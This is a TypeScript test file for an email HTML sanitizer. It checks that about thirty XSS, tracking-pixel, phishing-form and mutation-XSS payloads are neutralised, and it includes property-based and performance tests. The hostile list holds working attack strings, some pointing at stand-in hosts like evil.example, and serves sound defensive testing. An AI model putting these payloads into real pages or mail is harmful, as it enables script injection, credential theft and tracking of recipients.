import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { safeHtml } from "../../../src/mailbox/safe-html.ts";
import { ATTACKS } from "../web/attacks.ts";

/** What mail has been seen to bring along: active, fetching, covering, or misread by those who clean. */
const HOSTILE = [
  ...ATTACKS,
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></ScRiPt>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://track.example/p.gif?u=1" width=1 height=1>',
  '<img srcset="https://track.example/a 1x, https://track.example/b 2x">',
  "<svg><script>alert(1)</script></svg>",
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg><svg><use href="data:image/svg+xml,x#y"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a><a href="java\tscript:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
  "<iframe src=https://evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=x.swf></object><embed src=x.swf><applet code=x></applet>",
  '<form action="https://evil.example"><input name=password type=password><button>Go</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<style>@import url(https://evil.example/x.css); body { background: url(https://track.example/y) }</style>",
  '<p style="background:url(https://track.example/z)">x</p><div style="position:fixed;inset:0">covers</div>',
  '<table background="https://track.example/bg.png"><td background="//track.example/c">x</td></table>',
  '<video poster="https://track.example/p" src="https://track.example/v"></video><audio src="//track.example/a">',
  '<p id="nav" class="btn primary" name="csrf">x</p><input form="f" formaction="https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<!--><script>alert(1)</script--><p>x",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<plaintext><xmp><img src=x onerror=alert(1)></xmp>",
  '<template><script>alert(1)</script></template><slot onslotchange="alert(1)">',
  '<blockquote cite="https://track.example/cite">x</blockquote><q cite="javascript:alert(1)">y</q>',
  '<td onmouseover="alert(1)" colspan="2">x</td><p xml:base="https://evil.example/" xlink:href="https://evil.example">',
  "<p dir='rtl' lang='\"><script>alert(1)</script>'>x</p>",
  "<".repeat(5000),
  "<div>".repeat(5000),
  "<a".repeat(3000),
] as const;

const TAG = /<\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*) ?\/?>/g;
const MAY_HAVE = ["dir", "lang", "colspan", "rowspan"];
const FETCHES =
  /^(?:img|picture|source|script|style|svg|math|iframe|object|embed|form|input|button|link|meta|base|video|audio|a|template|noscript)$/;

/** Only plain elements with plain attributes are left, and every other `<` is written out. */
function requireHarmless(html: string): void {
  for (const [, name = "", attributes = ""] of html.matchAll(TAG)) {
    expect(name).not.toMatch(FETCHES);
    for (const [, attribute = ""] of attributes.matchAll(/ ([a-z]+)=/g))
      expect(MAY_HAVE).toContain(attribute);
  }
  expect(html.replace(TAG, "")).not.toMatch(/[<>]/);
}

describe("the HTML of a mail", () => {
  test.each(HOSTILE.map((text) => [text.slice(0, 100), text]))("%j can do nothing", async (_, text) => {
    requireHarmless((await safeHtml(text)).html);
    requireHarmless((await safeHtml(`<p>${text}</p>`)).html);
  });

  test("nor can any other, and what was made safe stays as it is", async () => {
    const piece = fc.constantFrom(
      ...HOSTILE.slice(-35),
      "<p>",
      "</p>",
      "<td>",
      '"',
      "'",
      ">",
      "<",
      "&lt;script&gt;",
      "=",
      "x",
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 8 }), async (pieces) => {
        const { html } = await safeHtml(pieces.join("").slice(0, 4000));
        requireHarmless(html);
        requireHarmless((await safeHtml(html)).html);
      }),
      { numRuns: 150 },
    );
  });

  test("words, lists and tables stay; pictures are told by their words, links by where they led", async () => {
    const { html, links, leftOut } = await safeHtml(
      '<h1>Bill</h1><ul><li>one<li>two</ul><table><tr><td colspan="2">3</td></tr></table><img alt="Logo" src="cid:1"><a href="HTTPS://bank.example.evil.example/">https://bank.example/</a><a href="mailto:a@b.example">mail</a>',
    );
    expect(html).toBe(
      '<h1>Bill</h1><ul><li>one</li><li>two</li></ul><table><tr><td colspan="2">3</td></tr></table><span>[Logo]</span><u>https://bank.example/</u><u>mail</u>',
    );
    expect(links).toEqual(["HTTPS://bank.example.evil.example/", "mailto:a@b.example"]);
    expect(leftOut).toBe(1);
  });

  test("is read in time, however large", async () => {
    const begun = performance.now();
    await safeHtml("<table><tr><td>".repeat(100_000));
    await safeHtml(`<p>${"<b>x</b> ".repeat(200_000)}`);
    expect(performance.now() - begun).toBeLessThan(30_000);
  });
});
